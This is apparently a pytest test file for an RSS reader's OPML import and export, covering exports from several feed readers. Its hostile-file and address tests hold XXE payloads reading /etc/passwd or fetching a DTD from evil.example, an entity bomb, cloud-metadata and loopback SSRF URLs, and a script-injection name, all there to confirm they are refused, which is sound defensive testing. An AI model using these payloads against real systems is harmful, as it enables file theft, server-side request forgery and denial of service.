"""Lists of feeds from other readers: their shapes, what is hostile in them, and that ours come back as they went out."""

from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from domain.address import AddressPolicy
from domain.errors import ConfigurationError
from domain.plain_text import clean, clean_line
from domain.source import Option, Source, Tier
from ingest.exchange import Imported, read_list
from ingest.opml import MOST_BYTES, read_opml, write_opml
from tests.builders.catalogue import INTERVALS
from tests.builders.ingest import source

FEEDLY = """<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0"><head><title>Someone's subscriptions</title></head><body>
<outline text="Press" title="Press">
  <outline type="rss" text="The Desk" title="The Desk" xmlUrl="https://desk.example.com/feed" htmlUrl="https://desk.example.com"/>
  <outline type="rss" text="Notices" title="Notices" xmlUrl="http://notices.example.com/rss"/>
</outline></body></opml>"""
INOREADER = """<?xml version="1.0" encoding="utf-8"?>
<opml version="1.0"><head><title>Subscriptions</title></head><body>
<outline text="Press" title="Press"><outline text="The Desk" title="The Desk" type="rss"
 xmlUrl="https://desk.example.com/feed" htmlUrl="https://desk.example.com/"/></outline>
<outline text="Notices" title="Notices" type="rss" xmlUrl="http://notices.example.com/rss" htmlUrl=""/>
</body></opml>"""
MINIFLUX = """<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0"><head><dateCreated>Fri, 12 Jun 2026 12:00:00 UTC</dateCreated></head><body>
<outline text="Press"><outline title="The Desk" text="The Desk" xmlUrl="https://desk.example.com/feed"
 htmlUrl="https://desk.example.com" description="All the news"></outline></outline>
<outline text="All"><outline title="Notices" text="Notices" xmlUrl="http://notices.example.com/rss"></outline></outline>
</body></opml>"""
FRESHRSS = """<?xml version="1.0" encoding="UTF-8"?>
<opml xmlns:frss="https://freshrss.org/opml" version="2.0"><head><title>FreshRSS</title></head><body>
<outline text="Press" frss:priority="main">
  <outline text="The Desk" type="rss" xmlUrl="https://desk.example.com/feed" frss:cssFullContent="article"/>
  <outline text="Scraped" type="HTML+XPath" xmlUrl="https://scraped.example.com/" frss:xPathItem="//li"/>
</outline>
<outline text="Notices" type="json" xmlUrl="http://notices.example.com/rss"/>
<outline text="A page" type="link" url="https://page.example.com/"/>
</body></opml>"""
OPEN = '<?xml version="1.0"?>\n'
BOMB = "".join(f'<!ENTITY {name} "{10 * f"&{inner};"}">' for name, inner in ("ba", "cb", "dc", "ed", "fe", "gf"))


def imported(
    folder: Path,
    text: str,
    *known: Source,
    tier: Tier | None = None,
    group: str | None = None,
    trust: bool = False,
) -> Imported:
    file = folder / "list.opml"
    file.write_text(text, encoding="utf-8")
    return read_list(file, known, AddressPolicy(), tier=tier, group=group, trust=trust)


def refusal(folder: Path, text: str | bytes) -> str:
    file = folder / "list.opml"
    file.write_bytes(text if isinstance(text, bytes) else text.encode())
    with pytest.raises(ConfigurationError) as error:
        read_list(file, (), AddressPolicy(), tier=None, group=None)
    return str(error.value)


@pytest.mark.parametrize(
    ("text", "groups"),
    [
        (FEEDLY, ("Press", "Press")),
        (INOREADER, ("Press", "")),
        (MINIFLUX, ("Press", "All")),
        (FRESHRSS, ("Press", "")),
    ],
    ids=["feedly", "inoreader", "miniflux", "freshrss"],
)
def test_what_other_readers_export_is_read(tmp_path: Path, text: str, groups: tuple[str, str]) -> None:
    desk, notices = imported(tmp_path, text).sources
    assert (desk.id, desk.name, desk.kind) == ("desk-example", "The Desk", "feed")
    assert desk.url == "https://desk.example.com/feed"
    assert (notices.name, notices.url, notices.tier) == ("Notices", "http://notices.example.com/rss", Tier.C)
    assert (desk.group, notices.group) == groups


def test_what_is_no_feed_is_left_out_and_counted(tmp_path: Path) -> None:
    assert imported(tmp_path, FRESHRSS).skipped == {
        "a link without a feed": 1,
        "read in a way that only its own reader has": 1,
    }


def test_tier_and_group_may_be_given_for_all(tmp_path: Path) -> None:
    found = imported(tmp_path, FEEDLY, tier=Tier.B, group="mine").sources
    assert {(one.tier, one.group) for one in found} == {(Tier.B, "mine")}


def test_what_is_watched_already_or_comes_twice_is_left_out_and_counted(tmp_path: Path) -> None:
    twice = FEEDLY.replace("http://notices.example.com/rss", "http://www.desk.example.com/feed/")
    known = source(url="http://desk.example.com/feed#x")
    assert imported(tmp_path, twice, known) == Imported(sources=(), skipped={"watched already": 2})
    (one,) = imported(tmp_path, twice).sources
    assert one.url == "https://desk.example.com/feed"


def test_an_id_that_is_taken_gets_a_number(tmp_path: Path) -> None:
    first = imported(tmp_path, FEEDLY).sources[0]
    other = replace(first, url="https://other.example.net/feed")
    assert imported(tmp_path, FEEDLY, other).sources[0].id == f"{first.id}-2"


@pytest.mark.case("X-11")
@pytest.mark.parametrize(
    ("text", "told"),
    [
        (
            OPEN + '<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml><body>&x;</body></opml>',
            "document type",
        ),
        (OPEN + '<!DOCTYPE opml SYSTEM "https://evil.example/x.dtd"><opml/>', "document type"),
        (OPEN + f'<!DOCTYPE opml [<!ENTITY a "aaaaaaaaaa">{BOMB}]><opml>&g;</opml>', "document type"),
        (OPEN + '<!DOCTYPE opml [<!ENTITY % x SYSTEM "http://169.254.169.254/">%x;]><opml/>', "document type"),
        ("<opml><body>&nbsp;</body></opml>", "not well-formed XML"),
        ("<opml><body>", "not well-formed XML"),
        ("", "not well-formed XML"),
        ("<html><body/></html>", "it is not OPML"),
        (b"\xff\xfe\x00", "not well-formed XML"),
        ("<opml>" + "<outline>" * 40 + "</outline>" * 40 + "</opml>", "nested deeper than 30"),
        ("<opml>" + "<outline/>\n" * 5_001 + "</opml>", "line 5001: it holds more than 5000 outlines"),
        (b"<opml>" + b" " * MOST_BYTES + b"</opml>", "larger than 5 MiB"),
    ],
    ids=["file", "external", "bomb", "parameter", "entity", "open", "empty", "html", "bytes", "deep", "many", "large"],
)
def test_hostile_files_are_refused_with_their_line(tmp_path: Path, text: str | bytes, told: str) -> None:
    said = refusal(tmp_path, text)
    assert told in said
    assert said.startswith("list.opml")
    assert "\nFix: " in said


@pytest.mark.case("X-11", "X-05")
@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "ftp://desk.example.com/feed",
        "gopher://desk.example.com/",
        "data:text/xml,x",
        "jar:https://desk.example.com!/feed",
        "dict://desk.example.com/",
        "feed://desk.example.com/feed",
        "javascript:alert(1)",
        "//desk.example.com/feed",
        "http://127.0.0.1/feed",
        "http://2130706433/",
        "http://[::1]/feed",
        "http://169.254.169.254/latest/meta-data",
        "http://router.local/feed",
        "https://user:secret@desk.example.com/",
        "https://desk.example.com:22/",
    ],
)
def test_an_address_that_is_no_publishers_refuses_the_file(tmp_path: Path, url: str) -> None:
    text = FEEDLY.replace("http://notices.example.com/rss", url)
    said = refusal(tmp_path, text)
    assert said.startswith("list.opml: line 5 (Notices) xmlUrl: ")
    assert "Nothing was imported" in said


@pytest.mark.case("X-11")
def test_every_bad_line_is_named_at_once(tmp_path: Path) -> None:
    lines = "".join(f'<outline text="x{number}" xmlUrl="http://10.0.0.{number}/"/>\n' for number in range(25))
    said = refusal(tmp_path, f"<opml>\n{lines}</opml>")
    assert said.count("is not a public address") == 20
    assert "line 2 (x0)" in said
    assert "and 5 more" in said


@pytest.mark.parametrize(
    ("ours", "told"),
    [
        ('foreshock:kind="telex"', "'telex' is not known"),
        ('foreshock:tier="Z"', "line 2 (x) tier"),
        ('foreshock:interval="soon"', "line 2 (x) interval"),
        ('foreshock:speaks_for="openai"', "cannot be read"),
        ('foreshock:probed_on="friday"', "cannot be read"),
        ('foreshock:nonsense="1"', "there is no key 'nonsense'"),
        ('foreshock:options="[1]"', "is not a dict"),
    ],
)
def test_our_own_attributes_are_checked_like_a_catalogue(tmp_path: Path, ours: str, told: str) -> None:
    text = f'<opml xmlns:foreshock="x"><body>\n<outline text="x" xmlUrl="https://x.example.com/" {ours}/></body></opml>'
    assert told in refusal(tmp_path, text)


WORDS = st.text(st.sampled_from("aé中 <>&\"'/]\n\t\x00\x1b[\u202e😀;=#"), max_size=12).map(
    lambda text: clean(text.encode("utf-8", "ignore").decode())
)
LINES = WORDS.map(clean_line)


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.builds(
            Source,
            id=st.integers(0, 10**6).map(lambda number: f"s{number}"),
            name=LINES.filter(bool),
            url=st.integers(0, 10**9).map(lambda number: f"https://news.example.com/?id={number}&x=%3C"),
            kind=st.just("page_list"),
            options=st.lists(WORDS, min_size=1, max_size=2).map(
                lambda values: (Option(name="links", values=tuple(values)),)
            ),
            publisher=WORDS,
            family=WORDS,
            tier=st.sampled_from(Tier),
            speaks_for=st.lists(WORDS, max_size=2).map(tuple),
            jurisdiction=st.one_of(st.none(), WORDS),
            terms=WORDS,
            interval=INTERVALS,
            about_ai=st.booleans(),
            expect_entries_min=st.integers(0, 9),
            probed_on=st.one_of(st.none(), st.dates()),
            group=LINES,
        ),
        max_size=4,
        unique_by=(lambda one: one.id, lambda one: one.url),
    )
)
def test_what_goes_out_comes_back(tmp_path_factory: pytest.TempPathFactory, sources: list[Source]) -> None:
    back = imported(tmp_path_factory.mktemp("opml"), write_opml(sources), trust=True).sources
    assert sorted(back, key=lambda one: one.id) == sorted(sources, key=lambda one: one.id)


def test_hostile_names_are_inert_in_what_goes_out() -> None:
    hostile = source(name='"/><script>alert(1)</script>\u202e', group="]]>&amp;<", publisher="\x1b[31m")
    text = write_opml([hostile])
    assert "<script" not in text
    assert not set("\x1b\u202e") & set(text)
    folder, feed = read_opml(text.encode(), "list.opml")
    assert (folder.title, feed.title) == ("]]>&amp;<", '"/><script>alert(1)</script>')


@pytest.mark.case("X-11")
def test_a_catalogue_file_is_checked_as_a_whole_too(tmp_path: Path) -> None:
    file = tmp_path / "list.toml"
    file.write_text(
        '[a]\nname = "A"\nurl = "http://10.0.0.1/"\nkind = "feed"\npublisher = "a"\nfamily = "a"\ntier = "B"\n'
    )
    with pytest.raises(ConfigurationError, match="not a public address"):
        read_list(file, (), AddressPolicy(), tier=None, group=None)
    file.write_text("[a]\noverride = true\n")
    with pytest.raises(ConfigurationError, match="changes a source that the file does not hold"):
        read_list(file, (), AddressPolicy(), tier=None, group=None)
    file.write_bytes(b"#" * (MOST_BYTES + 1))
    with pytest.raises(ConfigurationError, match="larger than 5 MiB"):
        read_list(file, (), AddressPolicy(), tier=None, group=None)


def test_a_file_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="cannot read it"):
        read_list(tmp_path / "none.opml", (), AddressPolicy(), tier=None, group=None)
